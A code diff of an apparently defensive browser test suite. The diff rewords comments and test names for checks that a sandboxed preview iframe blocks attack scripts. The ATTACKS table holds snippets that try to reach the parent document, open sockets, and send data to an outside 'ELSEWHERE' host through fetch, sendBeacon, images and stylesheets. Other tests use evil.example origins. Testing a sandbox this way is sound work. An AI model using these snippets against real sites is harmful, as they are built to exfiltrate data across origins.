@@ -5,10 +5,10 @@ import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } fr
 import { findChromium } from '../../../scripts/find-chromium.ts';
 import { type LoopbackFixture, startLoopbackFixture } from '../../support/shells/loopback-fixture.ts';
 
-// The frame that draws bundles, with attackers in it instead of our code: what a bundle that took the decoder over could do.
-// Run in a real browser, because the sandbox is the browser's.
+// The preview frame with attack scripts instead of our code: what a bundle could do after
+// exploiting a decoder. Runs in a real browser, because the browser implements the sandbox.
 
-/** Each attack answers what it got hold of, or how it was refused. */
+/** Each attack returns what it obtained, or how it was refused. */
 const ATTACKS = {
   origin: `self.origin`,
   parentDocument: `parent.document.title`,
@@ -24,7 +24,7 @@ const ATTACKS = {
   mediaInWorker: `new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("ORIGIN/media/bundles/1").then((r) => r.text()).then(postMessage, (e) => postMessage("refused " + e))'.replace('ORIGIN', location.origin === 'null' ? new URL(location.href).origin : location.origin)]))); w.onmessage = (e) => String(e.data).startsWith('refused') ? fail(e.data) : done(e.data); w.onerror = (e) => fail('no worker'); })`,
   socket: `new Promise((done, fail) => { const s = new WebSocket(location.href.replace('http', 'ws').replace('/preview.html', '/bridge')); s.onopen = () => done('open'); s.onerror = () => fail('no socket'); })`,
   elsewhere: `fetch(ELSEWHERE, { mode: 'no-cors' }).then(() => 'sent')`,
-  // Always answers "queued"; the policy is asked afterwards.
+  // Always returns "queued"; the policy is applied afterwards.
   beacon: `new Promise((done, fail) => { addEventListener('securitypolicyviolation', (e) => fail(e.violatedDirective)); navigator.sendBeacon(ELSEWHERE, 'x'); })`,
   pictureElsewhere: `new Promise((done, fail) => { const i = new Image(); i.onload = () => done('sent'); i.onerror = () => fail('refused'); i.src = ELSEWHERE; })`,
   styleElsewhere: `new Promise((done, fail) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = ELSEWHERE; l.onload = () => done('sent'); l.onerror = () => fail('refused'); document.head.append(l); })`,
@@ -91,16 +91,16 @@ const PICTURE = new Uint8Array(
   ),
 );
 
-/** In the page: a frame as the window makes it, and all that it says. */
+/** In the page: a frame like the window's, and all messages from it. */
 function openFrame(): Promise<void> {
-  const told: unknown[] = [];
+  const messages: unknown[] = [];
   const frame = document.createElement('iframe');
   frame.setAttribute('sandbox', 'allow-scripts');
   frame.src = 'preview.html';
-  Object.assign(window, { told, frame });
+  Object.assign(window, { messages, frame });
   return new Promise((resolve) => {
     addEventListener('message', ({ data }) => {
-      told.push(data);
+      messages.push(data);
       if (data.attack === 'ready') resolve();
     });
     document.body.append(frame);
@@ -116,7 +116,7 @@ function tell(message: object): Promise<void> {
 async function attack(name: Attack): Promise<{ got?: string; refused?: string }> {
   await tell({ attack: name });
   const answer = await page.waitForFunction(
-    (wanted) => (window as unknown as { told: { attack: string }[] }).told.find((one) => one.attack === wanted),
+    (wanted) => (window as unknown as { messages: { attack: string }[] }).messages.find((one) => one.attack === wanted),
     name,
   );
   return (await answer.jsonValue()) as { got?: string; refused?: string };
@@ -144,19 +144,19 @@ describe('a script in the frame', () => {
     expect(await attack('origin')).toMatchObject({ got: 'null' });
   });
 
-  test('finds no bridge of its own', async () => {
+  test('has no bridge', async () => {
     expect(await attack('ownBridge')).toMatchObject({ got: 'undefined' });
   });
 
   const refused = Object.keys(ATTACKS).filter((name) => name !== 'origin' && name !== 'ownBridge') as Attack[];
-  test.each(refused)('%s: refused, and nothing was sent anywhere', async (name) => {
+  test.each(refused)('%s is refused, and nothing is sent', async (name) => {
     const answer = await attack(name);
     expect(answer).toMatchObject({ refused: expect.stringMatching(/./) });
     expect(elsewhere.asked).toEqual([]);
     expect(page.url()).toBe(`${shell.origin}/`);
   });
 
-  test.each([{ leave: true }, { leaveHere: true }])('cannot take the frame to another place: %j', async (way) => {
+  test.each([{ leave: true }, { leaveHere: true }])('cannot navigate the frame: %j', async (way) => {
     const blocked = page.waitForEvent('console', (message) => /content security policy/i.test(message.text()));
     const answered = page.waitForResponse((response) => response.url().includes('/media/'));
     await tell(way);
@@ -169,7 +169,7 @@ describe('a script in the frame', () => {
 });
 
 describe('a frame that hangs', () => {
-  test('does not stop the window, because it is another process; taking it away ends it', async () => {
+  test('does not block the window, because it is another process, and ends when it is removed', async () => {
     await tell({ hang: true });
     const frames = await page.evaluate(async () => {
       let count = 0;
@@ -184,10 +184,10 @@ describe('a frame that hangs', () => {
   });
 });
 
-describe('what the shell answers to a document without an origin', () => {
+describe('what the shell serves to a document without an origin', () => {
   const frameCode = { origin: 'null', 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'cors' };
 
-  test.each(['/assets/frame-abc123.js', '/assets/shared-abc123.js'])('%s, without a session', async (path) => {
+  test.each(['/assets/frame-abc123.js', '/assets/shared-abc123.js'])('%s is served without a session', async (path) => {
     const answer = await shell.visit({ path, headers: frameCode });
     expect(answer.status).toBe(200);
     expect(answer.headers['access-control-allow-origin']).toBe('*');
@@ -210,13 +210,13 @@ describe('what the shell answers to a document without an origin', () => {
     }
   });
 
-  test('and not to the page of another site, nor under another name', async () => {
+  test('the frame’s files are refused to another site’s page and under another host name', async () => {
     const path = '/assets/frame-abc123.js';
     expect((await shell.visit({ path, headers: { ...frameCode, origin: 'https://evil.example' } })).status).toBe(403);
     expect((await shell.visit({ path, headers: { ...frameCode, host: 'evil.example' } })).status).toBe(403);
   });
 
-  test('its page needs the session, has its own policy, and only our window may frame it', async () => {
+  test('the frame’s page needs a session, has its own policy, and may be framed only by our window', async () => {
     expect((await shell.visit({ path: '/preview.html' })).status).toBe(401);
     const { headers } = await shell.visit({ path: '/preview.html', headers: { cookie: await shell.enter() } });
     const policy = String(headers['content-security-policy']);
